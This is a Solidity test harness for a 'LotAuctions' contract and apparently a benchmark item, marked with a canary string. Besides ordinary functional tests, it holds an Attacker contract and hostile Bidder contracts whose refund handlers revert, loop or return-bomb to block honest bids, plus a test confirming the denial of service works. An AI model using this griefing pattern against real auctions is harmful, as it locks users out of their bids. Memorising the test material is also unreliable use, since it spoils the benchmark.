// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import "./LotAuctions.sol";

// assay-canary-8bbd6575-528c-45ea-b2f6-2dd383ab5c98

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A bidder that behaves in one of several ways when it gets its money back.
contract Bidder {
    uint256 internal immutable manner;
    LotAuctions internal immutable auctions;

    constructor(LotAuctions auctions_, uint256 manner_) payable {
        (auctions, manner) = (auctions_, manner_);
    }

    receive() external payable {
        if (manner == 0) revert("no");
        if (manner == 1) while (true) {}
        if (manner == 2) assembly { revert(0, 100000) }
        if (manner == 3) assembly { return(0, 20000) }
        if (manner == 4) assembly { invalid() }
        if (manner == 5) { // outbids whoever is outbidding it
            uint256 least = auctions.minBid(1);
            if (address(this).balance >= least) auctions.bid{value: least}(1);
        }
    }

    function bid(uint256 lot) public {
        uint256 least = auctions.minBid(lot);
        if (address(this).balance >= least) auctions.bid{value: least}(lot);
    }

    function claim() external {
        auctions.claim(payable(address(this)));
    }
}

contract Attacker {
    LotAuctions internal auctions;

    constructor(LotAuctions auctions_) payable {
        auctions = auctions_;
    }

    receive() external payable {
        revert("not now");
    }

    function _try(address to, bytes memory data, uint256 value, uint256 gas_) internal returns (bool ok) {
        (ok, ) = to.call{value: value, gas: gas_}(data);
    }

    function run() external {
        // the owner's, and a bidder's
        _try(address(auctions), abi.encodeCall(auctions.takeBack, (1)), 0, 100_000);
        _try(address(auctions), abi.encodeCall(auctions.cancel, (1)), 0, 100_000);
        _try(address(auctions), abi.encodeCall(auctions.startEnding, (1)), 0, 100_000);
        // the list of lots that are gone, too early and too long
        uint256[] memory list = new uint256[](26);
        _try(address(auctions), abi.encodeCall(auctions.close, (list)), 0, 500_000);
        list = new uint256[](1);
        list[0] = 1;
        _try(address(auctions), abi.encodeCall(auctions.close, (list)), 0, 100_000);
        // bids that are left standing by one bidder after the other, each with manners of its own
        for (uint256 manner = 1; manner <= 5; ++manner) {
            Bidder bidder = new Bidder{value: 0.2 ether}(auctions, manner);
            _try(address(bidder), abi.encodeCall(bidder.bid, (1)), 0, 1_000_000);
            _try(address(bidder), abi.encodeCall(bidder.claim, ()), 0, 1_000_000);
        }
        // and the last one is our own
        uint256 least = auctions.minBid(1);
        _try(address(auctions), abi.encodeCall(auctions.bid, (1)), least - 1, 300_000);
        _try(address(auctions), abi.encodeCall(auctions.bid, (1)), least, 300_000);
        _try(address(auctions), abi.encodeCall(auctions.claim, (payable(address(this)))), 0, 100_000);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    LotAuctions private auctions;
    Attacker private mallory;
    Bidder private ana; // with ordinary manners
    address private constant BEN = address(0xBE9);

    receive() external payable {}

    function setUp() public {
        vm.warp(1_767_000_000);
        vm.deal(address(this), 120 ether);
        auctions = new LotAuctions(address(this));
        auctions.list("ipfs://one", 0.05 ether);
        auctions.list("ipfs://two", 0);
        mallory = new Attacker{value: 3 ether}(auctions);
        ana = new Bidder{value: 100 ether}(auctions, 99);
        vm.deal(BEN, 10 ether);
    }

    function test_Regular() public {
        require(auctions.minBid(1) == 0.05 ether && auctions.minBid(2) == 1, "least");
        vm.prank(BEN);
        auctions.bid{value: 1 ether}(1);
        vm.prank(BEN);
        (bool ok, ) = address(auctions).call{value: 1.05 ether}(abi.encodeCall(auctions.bid, (1)));
        require(!ok, "too low");
        ana.bid(1);
        require(BEN.balance == 10 ether && auctions.lotAt(1).bid == 1.051 ether, "money back");
        (ok, ) = address(auctions).call(abi.encodeCall(auctions.cancel, (1)));
        require(!ok, "has a bid");
        auctions.startEnding(1);
        vm.warp(block.timestamp + 9 minutes);
        vm.prank(BEN);
        auctions.bid{value: 2 ether}(1);
        require(auctions.lotAt(1).endsAt == block.timestamp + 5 minutes, "five more");
        require(address(ana).balance == 100 ether, "money back");
        uint256[] memory list = new uint256[](1);
        list[0] = 1;
        (ok, ) = address(auctions).call(abi.encodeCall(auctions.close, (list)));
        require(!ok, "not over");
        vm.warp(block.timestamp + 5 minutes);
        vm.prank(BEN);
        (ok, ) = address(auctions).call{value: 5 ether}(abi.encodeCall(auctions.bid, (1)));
        require(!ok, "over");
        auctions.close(list);
        require(auctions.proceeds() == 2 ether && auctions.lotAt(1).bidder == BEN, "sold");
        uint256 before = address(this).balance;
        auctions.collect(payable(address(this)));
        require(address(this).balance == before + 2 ether && auctions.proceeds() == 0, "collected");
        vm.prank(BEN);
        auctions.bid{value: 0.5 ether}(2);
        vm.prank(BEN);
        (ok, ) = address(auctions).call(abi.encodeCall(auctions.takeBack, (2)));
        require(!ok, "not idle yet");
        vm.warp(block.timestamp + 60 days);
        vm.prank(BEN);
        auctions.takeBack(2);
        vm.prank(BEN);
        auctions.claim(payable(BEN));
        require(BEN.balance == 8 ether && auctions.minBid(2) == 1, "taken back");
        auctions.cancel(2);
        (ok, ) = address(auctions).call{value: 1 ether}(abi.encodeCall(auctions.bid, (2)));
        require(!ok, "cancelled");
        (ok, ) = address(auctions).call(abi.encodeCall(auctions.claim, (payable(address(this)))));
        require(!ok, "nothing there");
        auctions.transferOwnership(BEN);
        vm.prank(BEN);
        auctions.renounceOwnership();
    }

    /// The honest call: ana, who has plenty, makes the least bid there can be, and it stands.
    function honestBid() public {
        ana.bid(1);
        require(auctions.lotAt(1).bidder == address(ana), "does not stand");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Lots and money are the owner's, a bid the bidder's.
    function test_RefusesStrangers() public {
        refuses(BEN, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        auctions.list("ipfs://three", 0);
        refuses(BEN, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        auctions.startEnding(1);
        refuses(BEN, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        auctions.cancel(1);
        refuses(BEN, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        auctions.collect(payable(BEN));
        vm.prank(BEN);
        auctions.bid{value: 1 ether}(1);
        vm.warp(block.timestamp + 61 days);
        vm.expectRevert(abi.encodeWithSelector(LotAuctions.WrongState.selector, 1, 1));
        auctions.takeBack(1);
        auctions.startEnding(1);
        refuses(BEN, abi.encodeWithSelector(LotAuctions.WrongState.selector, 1, 2));
        auctions.takeBack(1);
    }

    /// States, sums and lists that do not fit.
    function test_RefusesLots() public {
        auctions.startEnding(1);
        vm.expectRevert(abi.encodeWithSelector(LotAuctions.WrongState.selector, 1, 2));
        auctions.startEnding(1);
        auctions.cancel(1);
        vm.expectRevert(abi.encodeWithSelector(LotAuctions.WrongState.selector, 1, 4));
        auctions.cancel(1);
        vm.deal(address(this), 2**129);
        vm.expectRevert("come on");
        auctions.bid{value: 2**128}(2);
        vm.expectRevert("too many");
        auctions.close(new uint256[](26));
        vm.expectRevert(LotAuctions.PayFailed.selector);
        auctions.collect(payable(address(auctions)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(auctions.minBid(1) <= 10 ether && address(ana).balance == 100 ether, "ana can afford it");
        (bool served, ) = address(this).call(abi.encodeCall(this.honestBid, ()));
        require(!served, "ana could still bid");
    }

    function target() public view returns (address) {
        return address(auctions);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
